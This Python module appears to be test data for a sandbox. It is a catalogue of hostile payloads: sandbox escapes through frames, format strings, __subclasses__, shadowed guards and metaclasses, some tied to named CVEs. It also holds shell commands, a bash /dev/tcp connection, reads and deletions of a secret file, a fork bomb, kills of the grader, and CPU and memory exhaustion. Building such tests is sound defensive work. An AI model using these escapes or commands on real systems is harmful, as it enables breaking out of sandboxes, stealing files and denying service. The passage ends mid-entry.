"""Hostile programs, as data: escapes from the language layer and attacks on resources.

Each payload is one source text, run unchanged under each layer alone:

- under the language layer alone (no rlimits, namespaces, uid change, Landlock or seccomp;
  the child runs as root) it must be stopped by the language layer itself;
- under the process layer alone (plain `exec` with the real builtins) the escape "works",
  and what it then tries to do to the host must not happen.

So a pure language-level escape ends in a host-visible effect reached only through what it
escaped to (`B`, the real builtins): the rest of the program uses no name that the
language layer refuses at compile time, so the refusal that stops it is the escape itself.

Sources are `string.Template`s: `$marker` is a path the payload tries to create, `$secret`
a 0644 file it tries to read (its text must not reach the output), `$port` a TCP listener
on 127.0.0.1 it tries to reach, `$grader` the pid of the test process.
"""

from __future__ import annotations

from dataclasses import dataclass

# The end of every escape: with the real builtins `B` (a module or its dict), create the marker.
_WRITE_MARKER = """\
D = B if isinstance(B, dict) else getattr(B, '__di' + 'ct__')
D['open']('$marker', 'w').write('escaped')
"""
# The end of an escape to the `os` module `O`: run a shell that creates the marker.
_SHELL_MARKER = "O.system('touch $marker')\n"
# Builtins from the list of all classes (`catch_warnings()._module` is the `warnings` module).
_FROM_SUBCLASSES = """\
B = getattr([c for c in SUBS if c.__name__ == 'catch_warnings'][0]()._module, '__buil' + 'tins__')
"""


@dataclass(frozen=True)
class Payload:
    """One hostile program."""

    name: str
    category: str
    source: str
    """A `string.Template` (see the module docstring)."""
    effect: str
    """What it would do to the grader or the host if nothing stopped it."""
    refusals: tuple[str, ...] = ()
    """Clean answers the language layer may give instead of a stop: `status` or
    `status:ErrorType` (a NameError for a builtin that is not there, CPython's own
    RecursionError, a SystemExit reported as the program's end)."""
    blocked_line: int | None = None
    """The line at which the language layer must stop it (the escape step itself)."""


def _p(
    name: str,
    category: str,
    source: str,
    effect: str,
    *refusals: str,
    line: int | None = None,
) -> Payload:
    return Payload(name, category, source, effect, refusals, line)


_GEN_FRAME = """\
def gen():
    yield g.gi_frame.f_back
g = gen()
B = next(g).f_builtins
"""

PAYLOADS: tuple[Payload, ...] = (
    # -- frame walks (CVE-2023-37271) ------------------------------------------------------
    _p(
        "frame-walk-gi_frame",
        "frame walk",
        _GEN_FRAME + _WRITE_MARKER,
        "a generator's frame leads to the caller's frame and the real builtins",
        line=2,
    ),
    _p(
        "frame-walk-gi_frame-computed",
        "frame walk",
        "def gen():\n"
        "    yield getattr(getattr(g, 'gi_' + 'frame'), 'f_' + 'back')\n"
        "g = gen()\n"
        "B = getattr(next(g), 'f_built' + 'ins')\n" + _WRITE_MARKER,
        "the same walk with attribute names built at run time",
        line=2,
    ),
    _p(
        "frame-walk-tb_frame",
        "frame walk",
        "try:\n"
        "    1 / 0\n"
        "except ZeroDivisionError as e:\n"
        "    F = e.__traceback__.tb_frame\n"
        "B = F.f_globals['__builtins__']\n" + _WRITE_MARKER,
        "a traceback's frame gives the module globals and the real builtins",
        line=4,
    ),
    _p(
        "frame-walk-tb_frame-computed",
        "frame walk",
        "try:\n"
        "    1 / 0\n"
        "except ZeroDivisionError as e:\n"
        "    T = getattr(e, '__trace' + 'back__')\n"
        "F = getattr(T, 'tb_' + 'frame')\n"
        "B = getattr(F, 'f_built' + 'ins')\n" + _WRITE_MARKER,
        "the traceback walk with computed names",
        line=4,
    ),
    _p(
        "frame-walk-cr_frame",
        "frame walk",
        "async def co():\n"
        "    return 1\n"
        "c = co()\n"
        "B = c.cr_frame.f_builtins\n"
        "c.close()\n" + _WRITE_MARKER,
        "a coroutine's frame gives the real builtins",
    ),
    _p(
        "frame-walk-ag_frame",
        "frame walk",
        "async def agen():\n    yield 1\na = agen()\nB = a.ag_frame.f_builtins\n" + _WRITE_MARKER,
        "an async generator's frame gives the real builtins",
    ),
    _p(
        "frame-walk-sys-_getframe",
        "frame walk",
        "import sys\nB = sys._getframe(0).f_builtins\n" + _WRITE_MARKER,
        "sys._getframe gives the running frame and the real builtins",
    ),
    # -- str.format / string.Formatter (CVE-2023-41039) -----------------------------------
    _p(
        "format-str-format-globals",
        "format traversal",
        "def f():\n"
        "    pass\n"
        "print('{0.__globals__}'.format(f))\n"
        "B = getattr(f, '__glo' + 'bals__')['__builtins__']\n" + _WRITE_MARKER,
        "str.format walks to a function's globals",
        line=3,
    ),
    _p(
        "format-unbound-str-format",
        "format traversal",
        "def f():\n"
        "    pass\n"
        "print(str.format('{0.__globals__[__builtins__]}', f))\n"
        "B = getattr(f, '__glo' + 'bals__')['__builtins__']\n" + _WRITE_MARKER,
        "the unbound str.format walks to the real builtins",
        line=3,
    ),
    _p(
        "format-format_map",
        "format traversal",
        "def f():\n"
        "    pass\n"
        "print('{f.__globals__}'.format_map({'f': f}))\n"
        "B = getattr(f, '__glo' + 'bals__')['__builtins__']\n" + _WRITE_MARKER,
        "str.format_map walks to a function's globals",
        line=3,
    ),
    _p(
        "format-nested-spec",
        "format traversal",
        "def f():\n"
        "    pass\n"
        "print('{0:{1.__globals__}}'.format(1, f))\n"
        "B = getattr(f, '__glo' + 'bals__')['__builtins__']\n" + _WRITE_MARKER,
        "a replacement field nested in a format spec walks attributes",
        line=3,
    ),
    _p(
        "format-gi_frame",
        "format traversal",
        "def gen():\n"
        "    yield 1\n"
        "g = gen()\n"
        "print('{0.gi_frame.f_builtins}'.format(g))\n"
        "B = getattr(getattr(g, 'gi_' + 'frame'), 'f_built' + 'ins')\n" + _WRITE_MARKER,
        "str.format reads a generator's frame",
        line=4,
    ),
    _p(
        "format-string-Formatter-get_field",
        "format traversal",
        "import string\n"
        "def f():\n"
        "    pass\n"
        "G = string.Formatter().get_field('0.__globals__', [f], {})[0]\n"
        "B = G['__builtins__']\n" + _WRITE_MARKER,
        "string.Formatter.get_field returns the object it walked to",
        line=4,
    ),
    _p(
        "format-str-subclass-template",
        "format traversal",
        "class S(str):\n"
        "    pass\n"
        "def f():\n"
        "    pass\n"
        "print(S('{0.__globals__}').format(f))\n"
        "B = getattr(f, '__glo' + 'bals__')['__builtins__']\n" + _WRITE_MARKER,
        "a str subclass as the template",
        line=5,
    ),
    # -- AttributeError.obj (CVE-2024-47532) ----------------------------------------------
    _p(
        "attributeerror-obj",
        "AttributeError.obj",
        "import json\n"
        "try:\n"
        "    json.no_such_name\n"
        "except AttributeError as e:\n"
        "    M = e.obj\n"
        "B = getattr(M, '__buil' + 'tins__')\n" + _WRITE_MARKER,
        "the error's obj is the raw module, whose __builtins__ are real",
        line=5,
    ),
    _p(
        "attributeerror-obj-computed",
        "AttributeError.obj",
        "import random\n"
        "try:\n"
        "    random.no_such_name\n"
        "except AttributeError as e:\n"
        "    M = getattr(e, 'o' + 'bj')\n"
        "B = getattr(M, '__buil' + 'tins__')\n" + _WRITE_MARKER,
        "the same leak, with the attribute name computed",
        line=5,
    ),
    # -- except* (CVE-2025-22153) -----------------------------------------------------------
    _p(
        "except-star-unguarded-body",
        "except* type confusion",
        "try:\n"
        "    raise ExceptionGroup('g', [ValueError()])\n"
        "except* ValueError:\n"
        "    SUBS = ().__class__.__base__.__subclasses__()\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "the body of an except* handler escapes the policy",
    ),
    _p(
        "except-star-traceback",
        "except* type confusion",
        "try:\n"
        "    raise ExceptionGroup('g', [ValueError()])\n"
        "except* ValueError as eg:\n"
        "    F = eg.exceptions[0].__traceback__.tb_frame\n"
        "B = F.f_builtins\n" + _WRITE_MARKER,
        "the exception group hands out a traceback and its frame",
    ),
    # -- guard names shadowed (CVE-2026-55830) ----------------------------------------------
    _p(
        "shadow-guard-positional-only",
        "guard name shadowing",
        "import random\n"
        "def peek(m, _getattr_=None, /):\n"
        "    return m._os\n"
        "O = peek(random)\n" + _SHELL_MARKER,
        "a positional-only parameter replaces the attribute guard inside the function",
    ),
    _p(
        "shadow-guard-lambda-positional-only",
        "guard name shadowing",
        "import random\npeek = lambda m, _getattr_=None, /: m._os\nO = peek(random)\n"
        + _SHELL_MARKER,
        "the same through a lambda",
    ),
    _p(
        "shadow-guard-keyword-only",
        "guard name shadowing",
        "import random\n"
        "def peek(m, *, _getattr_=None):\n"
        "    return m._os\n"
        "O = peek(random)\n" + _SHELL_MARKER,
        "a keyword-only parameter replaces the guard",
    ),
    _p(
        "shadow-guard-assignment",
        "guard name shadowing",
        "import random\n_getattr_ = lambda o, n: None\nO = random._os\n" + _SHELL_MARKER,
        "a module-level assignment replaces the guard",
    ),
    _p(
        "shadow-guard-comprehension",
        "guard name shadowing",
        "import random\nO = [random._os for _write_ in [0]][0]\n" + _SHELL_MARKER,
        "a comprehension variable shadows a guard",
    ),
    # -- classic walks ---------------------------------------------------------------------
    _p(
        "subclasses-tuple-base",
        "__subclasses__ walk",
        "SUBS = ().__class__.__base__.__subclasses__()\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "().__class__.__base__.__subclasses__() lists every class, the way to builtins",
    ),
    _p(
        "subclasses-object",
        "__subclasses__ walk",
        "SUBS = object.__subclasses__()\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "object.__subclasses__()",
    ),
    _p(
        "subclasses-computed",
        "__subclasses__ walk",
        "SUBS = getattr(object, '__subcla' + 'sses__')()\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "the walk with a computed name",
        line=1,
    ),
    _p(
        "subclasses-type-unbound",
        "__subclasses__ walk",
        "SUBS = getattr(type, '__subcla' + 'sses__')(object)\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "type.__subclasses__(object)",
        line=1,
    ),
    _p(
        "mro-str-mro",
        "mro walk",
        "SUBS = str.mro()[-1].__subclasses__()\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "str.mro()[-1] is object",
    ),
    _p(
        "mro-computed",
        "mro walk",
        "SUBS = getattr(str, '__m' + 'ro__')[-1].__subclasses__()\n"
        + _FROM_SUBCLASSES
        + _WRITE_MARKER,
        "str.__mro__[-1] with a computed name",
    ),
    _p(
        "func-globals",
        "func.__globals__",
        "def f():\n    pass\nB = f.__globals__['__builtins__']\n" + _WRITE_MARKER,
        "a function's globals hold the builtins",
    ),
    _p(
        "func-globals-module-function",
        "func.__globals__",
        "import json\nG = getattr(json.dumps, '__glob' + 'als__')\nB = G['__builtins__']\n"
        + _WRITE_MARKER,
        "a library function's globals are a real module's, with the real builtins",
        line=2,
    ),
    _p(
        "func-builtins-attribute",
        "func.__globals__",
        "import json\nB = getattr(json.dumps, '__built' + 'ins__')\n" + _WRITE_MARKER,
        "a library function's __builtins__",
        line=2,
    ),
    _p(
        "method-func-globals",
        "func.__globals__",
        "class A:\n"
        "    def m(self):\n"
        "        pass\n"
        "F = getattr(A().m, '__fu' + 'nc__')\n"
        "B = getattr(F, '__glo' + 'bals__')['__builtins__']\n" + _WRITE_MARKER,
        "a bound method's function and its globals",
        line=4,
    ),
    _p(
        "type-three-arguments",
        "type() with three arguments",
        "Meta = type('Meta', (type,), {})\n"
        "K = Meta('K', (), {})\n"
        "SUBS = getattr(getattr(K, '__ba' + 'se__'), '__subcl' + 'asses__')()\n"
        + _FROM_SUBCLASSES
        + _WRITE_MARKER,
        "a class factory makes a metaclass and classes outside the policy",
        line=1,
    ),
    _p(
        "type-three-arguments-from-class",
        "type() with three arguments",
        "T = (1).__class__.__class__\n"
        "K = T('K', (), {})\n"
        "SUBS = getattr(getattr(K, '__ba' + 'se__'), '__subcl' + 'asses__')()\n"
        + _FROM_SUBCLASSES
        + _WRITE_MARKER,
        "type reached as int.__class__",
        line=2,
    ),
    _p(
        "type-new",
        "type() with three arguments",
        "K = type.__new__(type, 'K', (), {})\n"
        "SUBS = getattr(getattr(K, '__ba' + 'se__'), '__subcl' + 'asses__')()\n"
        + _FROM_SUBCLASSES
        + _WRITE_MARKER,
        "type.__new__ as a class factory",
        line=1,
    ),
    _p(
        "unicode-fullwidth-subclasses",
        "Unicode look-alike names",
        "SUBS = ().__ｃｌａｓｓ__.__ｂａｓｅ__.__ｓｕｂｃｌａｓｓｅｓ__()\n"
        + _FROM_SUBCLASSES
        + _WRITE_MARKER,
        "fullwidth letters normalise to __class__, __base__, __subclasses__",
    ),
    _p(
        "unicode-fullwidth-globals",
        "Unicode look-alike names",
        "def f():\n    pass\nB = f.__ｇｌｏｂａｌｓ__['__builtins__']\n" + _WRITE_MARKER,
        "fullwidth letters normalise to __globals__",
    ),
    _p(
        "unicode-bold-open",
        "Unicode look-alike names",
        "𝐨𝐩𝐞𝐧('$marker', 'w').write('escaped')\n",
        "mathematical bold letters normalise to open",
    ),
    # -- functools -------------------------------------------------------------------------
    _p(
        "functools-update_wrapper-updated-globals",
        "functools wrappers",
        "import functools, json\n"
        "def f():\n"
        "    pass\n"
        "functools.update_wrapper(f, json.dumps, updated=('__globals__',))\n"
        "o = open\n"
        "o('$marker', 'w').write('escaped')\n",
        "copies json's globals, with the real builtins, into the program's globals",
        line=4,
    ),
    _p(
        "functools-wraps-updated-globals",
        "functools wrappers",
        "import functools, json\n"
        "def f():\n"
        "    pass\n"
        "functools.wraps(json.dumps, updated=('__globals__',))(f)\n"
        "o = open\n"
        "o('$marker', 'w').write('escaped')\n",
        "the same through functools.wraps",
        line=4,
    ),
    _p(
        "functools-update_wrapper-positional",
        "functools wrappers",
        "import functools, json\n"
        "def f():\n"
        "    pass\n"
        "functools.update_wrapper(f, json.dumps, (), ('__globals__',))\n"
        "o = open\n"
        "o('$marker', 'w').write('escaped')\n",
        "the attribute list passed positionally",
        line=4,
    ),
    _p(
        "functools-update_wrapper-changing-iterable",
        "functools wrappers",
        "import functools, json\n"
        "class Names:\n"
        "    def __init__(self):\n"
        "        self.calls = 0\n"
        "    def __iter__(self):\n"
        "        self.calls += 1\n"
        "        return iter(['__dict__'] if self.calls == 1 else ['__globals__'])\n"
        "def f():\n"
        "    pass\n"
        "functools.update_wrapper(f, json.dumps, updated=Names())\n"
        "o = open\n"
        "o('$marker', 'w').write('escaped')\n",
        "an iterable that shows the check one list and update_wrapper another",
        "runtime_error:NameError",  # update_wrapper got the checked list: no builtins came
    ),
    _p(
        "functools-update_wrapper-lying-str",
        "functools wrappers",
        "import functools, json\n"
        "class S(str):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    def __hash__(self):\n"
        "        return hash('__dict__')\n"
        "def f():\n"
        "    pass\n"
        "functools.update_wrapper(f, json.dumps, updated=(S('__globals__'),))\n"
        "o = open\n"
        "o('$marker', 'w').write('escaped')\n",
        "a str subclass that equals every allowed name",
    ),
    # -- operator --------------------------------------------------------------------------
    _p(
        "operator-attrgetter-globals",
        "operator getters",
        "import operator, json\n"
        "B = operator.attrgetter('__globals__')(json.dumps)['__builtins__']\n" + _WRITE_MARKER,
        "attrgetter reads a dunder without the guard",
        line=2,
    ),
    _p(
        "operator-attrgetter-dotted",
        "operator getters",
        "import operator\n"
        "SUBS = operator.attrgetter('__class__.__base__.__subclasses__')(())()\n"
        + _FROM_SUBCLASSES
        + _WRITE_MARKER,
        "a dotted attrgetter walks to __subclasses__",
        line=2,
    ),
    _p(
        "operator-methodcaller-subclasses",
        "operator getters",
        "import operator\n"
        "SUBS = operator.methodcaller('__subclasses__')(object)\n"
        + _FROM_SUBCLASSES
        + _WRITE_MARKER,
        "methodcaller calls __subclasses__",
        line=2,
    ),
    _p(
        "operator-methodcaller-getattribute",
        "operator getters",
        "import operator, json\n"
        "G = operator.methodcaller('__getattribute__', '__globals__')(json.dumps)\n"
        "B = G['__builtins__']\n" + _WRITE_MARKER,
        "methodcaller reaches object.__getattribute__",
        line=2,
    ),
    # -- public attribute chains and private names of allowed modules ---------------------
    _p(
        "chain-re-enum-sys",
        "module attribute chains",
        "import re\nB = re.enum.sys.modules['builtins']\n" + _WRITE_MARKER,
        "re.enum.sys is the real sys",
        line=2,
    ),
    _p(
        "chain-typing-sys",
        "module attribute chains",
        "import typing\nO = typing.sys.modules['os']\n" + _SHELL_MARKER,
        "typing.sys is the real sys",
        line=2,
    ),
    _p(
        "chain-json-decoder",
        "module attribute chains",
        "import json\nB = json.decoder.re.enum.sys.modules['builtins']\n" + _WRITE_MARKER,
        "json.decoder leads to re and sys",
        line=2,
    ),
    _p(
        "chain-statistics-sys",
        "module attribute chains",
        "import statistics\nO = statistics.sys.modules['os']\n" + _SHELL_MARKER,
        "statistics.sys",
        line=2,
    ),
    _p(
        "chain-datetime-sys",
        "module attribute chains",
        "import datetime\nO = datetime.sys.modules['os']\n" + _SHELL_MARKER,
        "datetime.sys",
        "runtime_error:AttributeError",  # from 3.12 on, datetime has no `sys` at all
        line=2,
    ),
    _p(
        "chain-dataclasses-sys",
        "module attribute chains",
        "import dataclasses\nO = dataclasses.sys.modules['os']\n" + _SHELL_MARKER,
        "dataclasses.sys",
        line=2,
    ),
    _p(
        "chain-enum-sys",
        "module attribute chains",
        "import enum\nO = enum.sys.modules['os']\n" + _SHELL_MARKER,
        "enum.sys",
        line=2,
    ),
    _p(
        "chain-fractions-sys",
        "module attribute chains",
        "import fractions\nO = fractions.sys.modules['os']\n" + _SHELL_MARKER,
        "fractions.sys",
        line=2,
    ),
    _p(
        "chain-calendar-sys",
        "module attribute chains",
        "import calendar\nO = calendar.sys.modules['os']\n" + _SHELL_MARKER,
        "calendar.sys (a module outside the allowlist)",
    ),
    _p(
        "private-random-_os",
        "module private names",
        "import random\nO = random._os\n" + _SHELL_MARKER,
        "random._os is the real os",
        line=2,
    ),
    _p(
        "private-from-import",
        "module private names",
        "from random import _os as O\n" + _SHELL_MARKER,
        "importing a private name",
    ),
    _p(
        "private-computed",
        "module private names",
        "import random\nO = getattr(random, '_o' + 's')\n" + _SHELL_MARKER,
        "a private name computed at run time",
        line=2,
    ),
    _p(
        "private-collections-_sys",
        "module private names",
        "import collections\nO = collections._sys.modules['os']\n" + _SHELL_MARKER,
        "collections._sys",
        line=2,
    ),
    # -- imports and denied builtins -------------------------------------------------------
    _p(
        "import-os",
        "imports",
        "import os\nos.system('touch $marker')\n",
        "a shell command",
    ),
    _p(
        "import-subprocess",
        "imports",
        "import subprocess\nsubprocess.run(['touch', '$marker'])\n",
        "a subprocess",
    ),
    _p(
        "import-dunder-import",
        "imports",
        "__import__('os').system('touch $marker')\n",
        "__import__ called directly",
    ),
    _p(
        "import-importlib",
        "imports",
        "import importlib\nimportlib.import_module('os').system('touch $marker')\n",
        "importlib.import_module",
    ),
    _p(
        "import-ctypes",
        "imports",
        "import ctypes\nctypes.CDLL(None).system(b'touch $marker')\n",
        "libc's system() through ctypes",
    ),
    _p(
        "import-builtins",
        "imports",
        "import builtins\nbuiltins.open('$marker', 'w').write('escaped')\n",
        "the builtins module itself",
    ),
    _p(
        "import-submodule-of-allowed",
        "imports",
        "import json.decoder\nB = json.decoder.re.enum.sys.modules['builtins']\n" + _WRITE_MARKER,
        "a submodule of an allowed package",
        line=1,
    ),
    _p(
        "builtin-open-secret",
        "denied builtins",
        "print(open('$secret').read())\n",
        "reads a file of the host",
    ),
    _p(
        "builtin-eval",
        "denied builtins",
        "eval(\"__import__('os').system('touch $marker')\")\n",
        "eval of a string that the policy never sees",
    ),
    _p(
        "builtin-exec",
        "denied builtins",
        "exec(\"open('$marker', 'w').write('escaped')\")\n",
        "exec of a string",
    ),
    _p(
        "builtin-aliased",
        "denied builtins",
        "e = exec\ne(\"open('$marker', 'w').write('escaped')\")\n",
        "exec under another name, past the compile-time check",
        "runtime_error:NameError",
    ),
    _p(
        "builtin-globals",
        "denied builtins",
        "B = globals()['__builtins__']\n" + _WRITE_MARKER,
        "globals() holds the builtins",
    ),
    _p(
        "builtin-vars",
        "denied builtins",
        "B = vars()['__builtins__']\n" + _WRITE_MARKER,
        "vars() holds the builtins",
    ),
    _p(
        "builtin-breakpoint",
        "denied builtins",
        "breakpoint()\n",
        "an interactive debugger on the grader's stdin",
    ),
    _p(
        "builtins-name",
        "__builtins__ access",
        "B = __builtins__\n" + _WRITE_MARKER,
        "the __builtins__ name",
    ),
    _p(
        "builtins-print-self",
        "__builtins__ access",
        "B = getattr(print, '__se' + 'lf__')\n" + _WRITE_MARKER,
        "a builtin function's __self__ is the builtins module",
        line=1,
    ),
    _p(
        "getattr-computed-join",
        "computed getattr",
        "def f():\n"
        "    pass\n"
        "G = getattr(f, ''.join(['__', 'glob', 'als', '__']))\n"
        "B = G['__builtins__']\n" + _WRITE_MARKER,
        "getattr with a dunder name built by join",
        line=3,
    ),
    _p(
        "getattr-computed-chr",
        "computed getattr",
        "def f():\n"
        "    pass\n"
        "G = getattr(f, chr(95) * 2 + 'globals' + chr(95) * 2)\n"
        "B = G['__builtins__']\n" + _WRITE_MARKER,
        "getattr with a dunder name built from chr()",
        line=3,
    ),
    _p(
        "lying-str-startswith",
        "lying str subclasses",
        "class S(str):\n"
        "    def startswith(self, *args):\n"
        "        return False\n"
        "    def __getitem__(self, key):\n"
        "        return 'x'\n"
        "def f():\n"
        "    pass\n"
        "G = getattr(f, S('__globals__'))\n"
        "B = G['__builtins__']\n" + _WRITE_MARKER,
        "a name that says it does not start with '_'",
        line=8,
    ),
    _p(
        "lying-str-eq-hash",
        "lying str subclasses",
        "class S(str):\n"
        "    def __eq__(self, other):\n"
        "        return False\n"
        "    def __hash__(self):\n"
        "        return 0\n"
        "def gen():\n"
        "    yield 1\n"
        "F = getattr(gen(), S('gi_frame'))\n"
        "B = getattr(F, 'f_built' + 'ins')\n" + _WRITE_MARKER,
        "a name that is not equal to any denied name",
        line=8,
    ),
    _p(
        "typing-get_type_hints-eval",
        "string annotations",
        "import typing\n"
        "def f(x: \"__import__('os').system('touch $marker')\"):\n"
        "    pass\n"
        "typing.get_type_hints(f)\n",
        "get_type_hints evaluates the annotation string with eval",
        line=4,
    ),
    _p(
        "typing-ForwardRef-evaluate",
        "string annotations",
        "import typing\n"
        "ref = typing.ForwardRef(\"__import__('os').system('touch $marker')\")\n"
        "typing.get_type_hints(ref)\n",
        "a ForwardRef evaluated by typing",
        line=2,
    ),
    _p(
        "metaclass-keyword",
        "metaclasses",
        "class M(type):\n"
        "    def __call__(cls, *args):\n"
        "        return object.__subclasses__()\n"
        "class K(metaclass=M):\n"
        "    pass\n"
        "SUBS = K()\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "a metaclass whose __call__ runs outside the guards",
    ),
    _p(
        "metaclass-class-of-class",
        "metaclasses",
        "class A:\n"
        "    pass\n"
        "class M(A.__class__):\n"
        "    def __call__(cls, *args):\n"
        "        return getattr(object, '__subcla' + 'sses__')()\n"
        "SUBS = M('K', (), {})()\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "a metaclass made from type reached as a class's __class__",
        line=3,
    ),
    _p(
        "metaclass-enum-meta",
        "metaclasses",
        "import enum\n"
        "class M(enum.EnumMeta):\n"
        "    pass\n"
        "SUBS = getattr(M, '__subcla' + 'sses__')()\n"
        "SUBS = getattr(object, '__subcla' + 'sses__')()\n" + _FROM_SUBCLASSES + _WRITE_MARKER,
        "a metaclass from an allowed module",
        line=2,
    ),
    # -- files, network, processes, signals ------------------------------------------------
    _p(
        "file-write-os-open",
        "files",
        "import os\n"
        "fd = os.open('$marker', os.O_CREAT | os.O_WRONLY, 0o644)\n"
        "os.write(fd, b'escaped')\n",
        "creates a file on the host",
    ),
    _p(
        "file-delete-secret",
        "files",
        "import os\nos.remove('$secret')\n",
        "deletes a file of the host",
    ),
    _p(
        "file-symlink",
        "files",
        "import os\nos.symlink('$secret', '$marker')\n",
        "plants a symlink on the host",
    ),
    _p(
        "file-io-open-secret",
        "files",
        "import io\nprint(io.open('$secret').read())\n",
        "reads a file of the host through io",
    ),
    _p(
        "network-socket",
        "network",
        "import socket\nsocket.create_connection(('127.0.0.1', $port), timeout=1)\n",
        "a TCP connection to the host",
    ),
    _p(
        "network-raw-syscalls",
        "network",
        "import ctypes, struct\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "fd = libc.socket(2, 1, 0)\n"
        "address = struct.pack('=H', 2) + struct.pack('!H', $port) + bytes([127, 0, 0, 1]) + bytes(8)\n"
        "libc.connect(fd, address, len(address))\n",
        "socket() and connect() called through libc, past any Python module",
    ),
    _p(
        "network-shell",
        "network",
        "import os\nos.system(\"bash -c 'echo hi > /dev/tcp/127.0.0.1/$port'\")\n",
        "a shell that opens the connection",
    ),
    _p(
        "process-fork-bomb",
        "processes",
        "import os\nwhile True:\n    os.fork()\n",
        "a fork bomb",
    ),
    _p(
        "process-background-shell",
        "processes",
        "import os\nos.system('(sleep 3; touch $marker) &')\n",
        "a background process that outlives the run",
    ),
    _p(
        "process-posix_spawn",
        "processes",
        "import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'sleep 3; touch $marker'], {})\n",
        "a spawned process",
    ),
    _p(
        "process-execv",
        "processes",
        "import os\nos.execv('/bin/sh', ['sh', '-c', 'touch $marker'])\n",
        "replaces the child with a shell",
    ),
    _p(
        "process-thread",
        "processes",
        "import _thread, time\n"
        "_thread.start_new_thread(time.sleep, (60,))\n"
        "print('thread started')\n",
        "a thread that outlives the program",
    ),
    _p(
        "signal-kill-server",
        "killing the grader",
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
        "kills the fork server",
    ),
    _p(
        "signal-kill-grader",
        "killing the grader",
        "import os, signal\nos.kill($grader, signal.SIGKILL)\n",
        "kills the grader",
    ),
    _p(
        "signal-killpg-grader",
        "killing the grader",
        "import os, signal\nos.killpg(os.getpgid($grader), signal.SIGKILL)\n",
        "kills the grader's process group",
    ),
    _p(
        "signal-server-memory",
        "killing the grader",
        "import os\nwith open('/proc/%d/mem' % os.getppid(), 'wb') as mem:\n    mem.write(b'x')\n",
        "writes into the fork server's memory",
    ),
    # -- CPU, memory, output, recursion, wall clock ----------------------------------------
    _p("loop-while-true", "infinite loops", "while True:\n    pass\n", "uses the CPU forever"),
    _p(
        "loop-swallow-limit",
        "infinite loops",
        "while True:\n"
        "    try:\n"
        "        while True:\n"
        "            pass\n"
        "    except BaseException:\n"
        "        pass\n",
        "catches whatever stops the loop and loops again",
    ),
    _p(
        "loop-finally-continue",
        "infinite loops",
        "while True:\n"
        "    try:\n"
        "        while True:\n"
        "            pass\n"
        "    finally:\n"
        "        continue\n",
        "a `continue` in `finally` swallows the stop",
    ),
    _p(
        "loop-recursive-finally",
        "infinite loops",
        "def f():\n    try:\n        f()\n    finally:\n        f()\nf()\n",
        "exponential recursion through finally blocks",
        "runtime_error:RecursionError",
    ),
    _p(
        "loop-iter-sentinel",
        "infinite loops",
        "for x in iter(int, 1):\n    pass\n",
        "a C iterator that never ends",
    ),
    _p(
        "loop-in-exception-str",
        "infinite loops",
        "class E(Exception):\n"
        "    def __str__(self):\n"
        "        while True:\n"
        "            pass\n"
        "raise E()\n",
        "hangs the grader when it formats the error",
        "runtime_error:E",
    ),
    _p("cpu-power-tower", "C-level CPU", "print(9 ** 9 ** 9)\n", "a power tower computed in C"),
    _p(
        "cpu-sum-huge-range",
        "C-level CPU",
        "print(sum(range(10 ** 15)))\n",
        "a C loop over 10**15 items",
    ),
    _p(
        "cpu-range-class",
        "C-level CPU",
        "print(sum(range(3).__class__(10 ** 15)))\n",
        "the real range reached as a range's class",
    ),
    _p(
        "cpu-modular-power",
        "C-level CPU",
        "print(pow(7, 1 << 16000000, (1 << 16000000) + 1))\n",
        "a modular power with a 16-million-bit exponent",
    ),
    _p(
        "cpu-regex-backtracking",
        "C-level CPU",
        "import re\nprint(re.match(r'(a+)+$$', 'a' * 64 + 'b'))\n",
        "catastrophic backtracking in the regex engine",
    ),
    _p(
        "cpu-sum-of-lists",
        "C-level CPU",
        "print(len(sum([[0] * 1000] * 30000, [])))\n",
        "quadratic list concatenation inside sum()",
    ),
    _p(
        "cpu-math-prod",
        "C-level CPU",
        "import math\nprint(math.prod([1 << (1 << 23)] * 64).bit_length())\n",
        "a product of huge integers",
    ),
    _p(
        "cpu-math-perm",
        "C-level CPU",
        "import math\nprint(math.perm(10 ** 9).bit_length())\n",
        "a factorial of 10**9",
    ),
    _p(
        "memory-str-repeat",
        "memory",
        "s = 'a' * (4 * 10 ** 9)\n",
        "a 4 GB string",
    ),
    _p(
        "memory-list-doubling",
        "memory",
        "x = [0]\nwhile True:\n    x = x + x\n",
        "a list that doubles until memory runs out",
    ),
    _p(
        "memory-inplace-doubling",
        "memory",
        "x = ['a']\nwhile True:\n    x *= 2\n",
        "in-place doubling",
    ),
    _p(
        "memory-bytearray",
        "memory",
        "b = bytearray(4 * 10 ** 9)\n",
        "a 4 GB zero-filled buffer",
    ),
    _p(
        "memory-bytes-class",
        "memory",
        "b = b''.__class__(4 * 10 ** 9)\n",
        "bytes reached as a value's class",
    ),
    _p(
        "memory-int-to-bytes",
        "memory",
        "b = (0).to_bytes(4 * 10 ** 9, 'big')\n",
        "int.to_bytes with a huge length",
    ),
    _p(
        "memory-percent-width",
        "memory",
        "s = '%4000000000d' % 1\n",
        "printf-style formatting with a huge width",
    ),
    _p(
        "memory-percent-star-width",
        "memory",
        "s = '%*d' % (4 * 10 ** 9, 1)\n",
        "printf-style formatting with a huge `*` width",
    ),
    _p(
        "memory-format-nested-width",
        "memory",
        "s = '{0:{1}}'.format(1, 4 * 10 ** 9)\n",
        "str.format with a width from its arguments",
    ),
    _p(
        "memory-dunder-mul",
        "memory",
        "s = 'a'.__mul__(4 * 10 ** 9)\n",
        "str.__mul__ called directly, past the `*` guard",
    ),
    _p(
        "memory-regex-sub",
        "memory",
        "import re\ns = re.sub('', 'a' * 4000, 'b' * 10 ** 6)\n",
        "re.sub inserting a long text at every position",
    ),
    _p(
        "memory-translate",
        "memory",
        "s = ('a' * 10 ** 6).translate({97: 'b' * 4000})\n",
        "str.translate mapping each character to a long text",
    ),
    _p(
        "memory-join-repeated",
        "memory",
        "import itertools\ns = ''.join(itertools.repeat('a' * 10 ** 6, 4000))\n",
        "join of one long text repeated",
    ),
    _p(
